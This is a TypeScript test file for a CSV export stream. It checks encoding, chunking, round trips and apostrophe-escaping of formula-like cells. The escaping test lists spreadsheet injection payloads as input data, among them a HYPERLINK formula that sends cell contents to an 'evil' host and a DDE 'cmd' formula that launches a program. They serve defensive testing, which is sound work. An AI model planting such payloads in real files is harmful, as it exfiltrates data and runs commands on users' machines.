import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { streamCsv } from './stream-csv.ts';
import type { CellValue } from './table.ts';

const writeCsv = async (rows: CellValue[][], headings = rows[0]!.map((_, index) => `C${index}`)) => {
  const columns = headings.map((heading) => ({ heading, kind: 'text' as const }));
  const batches = (async function* () {
    yield rows.map((values) => ({ values, timeZone: 'UTC' }));
  })();
  return Array.fromAsync(streamCsv({ name: 'Results', columns, batches }));
};

/** Parses CSV like programs that end a row at any kind of line break. */
const parseCells = (text: string): string[][] =>
  parse(text, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] });

/** Removes the apostrophe as described in docs/integrate/results.md. */
const stripApostrophe = (text: string) => text.replace(/^'(?='*(?:[\t\r\n]|\s*[=+\-@＝＋－＠]))/, '');

test('a CSV file starts with a byte order mark, so that Excel recognises UTF-8', async () => {
  const chunks = await writeCsv([['x']]);
  assert.equal(chunks.join(''), '\uFEFFC0\r\nx\r\n');
});

test('formula-like text is prefixed with an apostrophe, but numbers are not', async () => {
  const harmful = [
    '=1+1',
    '+31 6 1234',
    '-crack',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    "'=1+1",
    '=HYPERLINK("http://evil/?"&A1)',
    "=cmd|'/C calc'!A0",
  ];
  const harmless = ["'s-Gravenhage", 'a=b', '1-2', "''", '', '0012'];
  const chunks = await writeCsv([harmful, [...harmless, ...harmful].slice(0, harmful.length)], harmful);
  const [headings, first, second] = parseCells(chunks.join(''));
  assert.deepEqual(
    first,
    harmful.map((text) => `'${text}`),
  );
  assert.deepEqual(headings, first);
  assert.deepEqual(second!.slice(0, harmless.length), harmless);
  const numbers = [-1, -0.5, 1e21, -1e-7, 0, 9_007_199_254_740_991];
  const [, values] = parseCells((await writeCsv([[...numbers, true, false, null]])).join(''));
  assert.deepEqual(values, ['-1', '-0.5', '1e+21', '-1e-7', '0', '9007199254740991', 'true', 'false', '']);
});

const fragment = fc.constantFrom(
  "'",
  '"',
  ',',
  ';',
  '=',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ' ',
  '\uFEFF',
  'x',
  '🙂',
);
const text = fc.oneof(
  fc.array(fragment, { maxLength: 6 }).map((fragments) => fragments.join('')),
  fc.string({ unit: 'binary' }),
);

test('every string survives a round trip through CSV', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (rows) => {
      const [, ...cells] = parseCells((await writeCsv(rows)).join(''));
      assert.deepEqual(
        cells.map((row) => row.map(stripApostrophe)),
        rows,
      );
    }),
    { numRuns: 300 },
  );
});

test('a table with many columns is streamed in small chunks', async () => {
  const row = Array.from({ length: 16_384 }, () => 'some words');
  const chunks = await writeCsv(Array.from({ length: 10 }, () => row));
  assert.ok(Math.max(...chunks.map(({ length }) => length)) < 400_000);
  assert.equal(parseCells(chunks.join('')).length, 11);
});

test('a long cell is streamed in small chunks without splitting a character', async () => {
  const cell = `"${'🙂'.repeat(500_000)}${'"'.repeat(500_000)}`;
  const chunks = await writeCsv([[cell, 'x']]);
  assert.ok(Math.max(...chunks.map(({ length }) => length)) < 400_000);
  const bytes = Buffer.concat(chunks.map((chunk) => Buffer.from(chunk)));
  assert.deepEqual(parseCells(bytes.toString())[1], [cell, 'x']);
});
